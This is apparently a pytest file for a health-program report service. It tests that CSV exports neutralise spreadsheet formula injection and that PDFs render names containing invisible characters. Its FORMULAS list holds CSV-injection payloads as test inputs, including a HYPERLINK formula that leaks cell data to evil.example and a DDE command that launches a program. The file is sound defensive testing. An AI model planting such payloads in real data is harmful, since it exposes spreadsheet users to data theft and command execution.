"""Names as people type them, or as an attacker does, in the report files (issue 12).

CSV: a text cell that a spreadsheet would run as a formula is neutralised (OWASP); numbers
stay numbers. PDF: characters matplotlib cannot lay out (U+FEFF raised IndexError, a 500 on
the regional report) are dropped from what is drawn.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import numpy as np
import psycopg
import pytest
from matplotlib.image import imread

from reports.render import neutralised, regional_csv, render
from reports.service import enrollee_summary, regional_report
from tests.reports.conftest import AS_OF, KnownRegion

needs_poppler = pytest.mark.skipif(shutil.which("pdftoppm") is None or shutil.which("pdftotext") is None,
                                   reason="poppler-utils (pdftoppm, pdftotext) not installed")

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"보기")', "+1+2", "-3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_starts_are_neutralised(text: str) -> None:
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["김영희", "O'Brien", " =1", "1-2", "a=b", "", "'=1", "＝1"])
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralised(text) == text


def test_csv_report_neutralises_names_and_keeps_numbers(db: psycopg.Connection, known: KnownRegion) -> None:
    names = dict(zip(("A", "B", "C"), FORMULAS[:3], strict=True))
    for key, name in names.items():
        db.execute("UPDATE enrollees SET name = %s WHERE id = %s", (name, known.ids[key]))
    db.execute("UPDATE users SET display_name = %s WHERE id = %s", ("@cmd", known.care_worker_id))
    db.execute("UPDATE regions SET name = %s WHERE id = %s", ("=1+1 보건소", known.region_id))
    report = regional_report(db, known.region_id, "2026-09", as_of=AS_OF)
    report["enrollees_detail"][0]["steps_change_pct"] = -12.5  # a negative figure is a number
    rows = list(csv.DictReader(io.StringIO(regional_csv(report).lstrip("\ufeff"))))
    assert [row["name"] for row in rows] == ["'" + name for name in names.values()] + ["'=1+1 보건소"]
    assert "'@cmd" in {row["care_worker"] for row in rows}
    assert rows[0]["steps_change_pct"] == "-12.5"
    assert rows[-1]["enrollee_id"] == "TOTAL" and rows[-1]["bp_days"] == "40"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # only numbers may begin with a minus sign


def _png(pdf: bytes, tmp_path: Path, page: int) -> np.ndarray:
    (tmp_path / "r.pdf").write_bytes(pdf)
    subprocess.run(["pdftoppm", "-r", "60", "-png", "-f", str(page), "-l", str(page), "-singlefile",
                    str(tmp_path / "r.pdf"), str(tmp_path / f"page{page}")], check=True, timeout=60)
    return imread(str(tmp_path / f"page{page}.png"))


def _text(pdf: bytes, tmp_path: Path) -> str:
    (tmp_path / "t.pdf").write_bytes(pdf)
    return subprocess.run(["pdftotext", "-enc", "UTF-8", str(tmp_path / "t.pdf"), "-"],
                          capture_output=True, check=True, timeout=60).stdout.decode("utf-8")


@needs_poppler
def test_pdfs_render_names_with_invisible_and_control_characters(
    db: psycopg.Connection, known: KnownRegion, tmp_path: Path
) -> None:
    # Stored as typed before names were checked (or by another client): the PDF must still draw.
    db.execute("UPDATE enrollees SET name = %s WHERE id = %s", ("\ufeff김영희\u200b", known.ids["A"]))
    db.execute("UPDATE enrollees SET name = %s WHERE id = %s", ("박\u2060철\x01수\n", known.ids["B"]))
    db.execute("UPDATE regions SET name = %s WHERE id = %s", ("\ufeff행복구 보건소", known.region_id))
    db.execute("UPDATE users SET display_name = %s WHERE id = %s", ("\ufeff", known.care_worker_id))
    report = regional_report(db, known.region_id, "2026-09", as_of=AS_OF)
    pdf = render(report, "pdf")
    assert pdf.startswith(b"%PDF")
    text = _text(pdf, tmp_path)
    assert "행복구 보건소" in text and "김영희" in text and "박철수" in text
    review = _png(pdf, tmp_path, 2)
    assert (review[..., :3].mean(axis=-1) < 0.5).mean() > 0.005, "review page is blank"
    summary = render(enrollee_summary(db, known.ids["A"], "2026-09", as_of=AS_OF), "pdf")
    assert "김영희" in _text(summary, tmp_path)
